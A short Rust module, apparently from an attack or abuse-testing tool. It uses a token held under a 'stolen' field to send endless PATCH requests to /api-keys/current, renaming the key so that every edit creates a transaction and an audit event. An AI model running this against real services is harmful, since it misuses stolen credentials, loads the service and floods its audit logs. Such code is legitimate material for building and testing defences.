//! A key renames itself as fast as possible: each edit is a transaction and an audit event.

use std::sync::Arc;

use tokio::runtime::Handle;

use super::ask_for_ever;
use crate::target::Target;

pub(super) fn begin(runtime: &Handle, target: &Arc<Target>) {
    ask_for_ever(runtime, target, |target, number| {
        let body = format!("{{\"name\":\"name {number}\"}}");
        target.api(&target.stolen.token, "PATCH", "/api-keys/current", &body)
    });
}
